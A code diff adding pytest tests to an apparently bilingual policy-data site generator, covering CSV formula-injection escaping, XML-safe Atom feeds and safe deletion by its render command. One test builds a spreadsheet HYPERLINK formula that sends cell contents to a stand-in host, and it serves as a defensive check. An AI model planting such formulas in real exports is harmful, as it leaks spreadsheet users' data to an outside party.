@@ -6,10 +6,14 @@ search words, and the render command's errors.)
 
 from __future__ import annotations
 
+import copy
+import csv
 import datetime as dt
+import io
 import json
 import xml.etree.ElementTree as ET
 from decimal import Decimal
+from types import SimpleNamespace
 
 import jieba
 import pytest
@@ -118,6 +122,36 @@ def test_open_data_records(view):
     assert doc["count"] == 152 and doc["clauses"][0]["benefit"]["kind"]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_open_data_csv_cells_never_start_a_formula(data, start):
+    hostile = copy.deepcopy(data)
+    clause = hostile["policies"][0]["clauses"][0]
+    formula = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
+    clause["title"] = {"zh": formula, "en": formula}
+    view = build_view(hostile, ON)
+    rows = list(
+        csv.DictReader(io.StringIO(opendata.clauses_csv(view, "en", load_strings()).lstrip("\ufeff")))
+    )
+    key = {"policy": hostile["policies"][0]["id"], "clause": clause["id"]}
+    assert [r["title"] for r in rows if key.items() <= r.items()] == ["'" + formula]
+    assert all(not v.startswith(opendata.FORMULA_START) for r in rows for v in r.values())
+    records = json.loads(opendata.clauses_json(view, "en"))["clauses"]
+    assert [r["title"] for r in records if key.items() <= r.items()] == [formula]
+
+
+def test_the_feed_stays_xml_whatever_a_commit_message_holds(view):
+    change = SimpleNamespace(
+        policy="p", kind="changed", title={"zh": "标题\x07", "en": "t"}, details=[], clauses=[]
+    )
+    revision = SimpleNamespace(
+        commit="c" * 40, date="2025-01-01T00:00:00+08:00", subject="s", changes=[change]
+    )
+    root = ET.fromstring(feed.atom(view, "zh", load_strings(), [revision]))
+    assert root.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}title").text.startswith(
+        "标题\ufffd"
+    )
+
+
 def test_feed_without_history_lists_each_policy_dated_by_its_first_day(view):
     xml = feed.atom(view, "zh", load_strings(), [])
     root = ET.fromstring(xml)
@@ -181,6 +215,33 @@ def test_render_command_writes_both_editions(tmp_path, capsys):
         assert (tmp_path / lang / "compare" / "compute_voucher.md").is_file()
     zh = (tmp_path / "zh" / "policies" / "shenzhen-ai-pioneer-measures-2024.md").read_text(encoding="utf-8")
     assert "{: #clause-2 }" in zh and "按服务合同金额50%（初创企业60%）资助，最高1000万元" in zh
+
+
+@pytest.mark.parametrize("kind", ["foreign file", "file", "link"])
+def test_render_command_deletes_nothing_it_did_not_write(tmp_path, capsys, kind):
+    out = tmp_path / "out"
+    if kind == "foreign file":
+        (out / "zh").mkdir(parents=True)
+        (out / "zh" / "mine.txt").write_text("mine")
+    elif kind == "file":
+        out.write_text("a file")
+    else:
+        (tmp_path / "real").mkdir()
+        out.symlink_to(tmp_path / "real")
+    assert cli_main(["render", "--out", str(out), "--lang", "zh", "--no-history", "--no-runtime"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err
+    assert str(out) in err
+    if kind == "foreign file":
+        assert (out / "zh" / "mine.txt").read_text() == "mine"
+
+
+def test_render_command_replaces_its_own_output(tmp_path, capsys):
+    args = ["render", "--out", str(tmp_path), "--lang", "en", "--no-history", "--no-runtime"]
+    assert cli_main([*args, "--with-content"]) == 0
+    assert (tmp_path / "en" / "about.md").is_file()
+    assert cli_main(args) == 0
+    assert not (tmp_path / "en" / "about.md").exists()  # written by the first run: replaced
 
 
 def test_every_site_string_has_its_whole_text_in_both_languages():
